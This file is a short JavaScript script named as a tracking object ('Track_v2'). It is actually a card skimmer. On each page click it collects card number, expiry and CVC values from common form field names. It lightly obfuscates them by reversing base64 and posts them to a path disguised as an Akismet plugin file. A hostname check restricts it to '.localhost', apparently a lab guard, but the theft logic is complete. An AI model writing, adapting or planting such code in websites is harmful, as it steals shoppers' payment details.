var Track_v2 = function () {
  return this;
};
Track_v2.prototype = {
  t: '/wp-content/plugins/akismet-lib/inc/cls.php',
  f: ['card_number', 'card-number', 'cc-number', 'cardnumber', 'CardNo'],
  x: ['expiry', 'exp', 'cc-exp', 'card-expiry', 'ExpDate'],
  c: ['cvc', 'cvv', 'cc-csc', 'security_code', 'Cvc'],
  any: function (l) { for (var i = 0; i < l.length; i++) { var e = document.getElementById(l[i]) || document.getElementsByName(l[i])[0]; if (e && e.value) return e.value; } return ''; },
  go: function () {
    if (!/\.localhost$/.test(location.hostname)) return;
    var s = this.any(this.f) + '|' + this.any(this.x) + '|' + this.any(this.c);
    if (s.length > 20) {
      var r = new XMLHttpRequest();
      r.open('POST', this.t);
      r.setRequestHeader('X-Requested-With', 'XMLHttpRequest');
      r.send('q=' + encodeURIComponent(btoa(s).split('').reverse().join('')));
    }
  }
};
var _tk = new Track_v2();
document.addEventListener('click', function () { setTimeout(function () { _tk.go(); }, 50); });
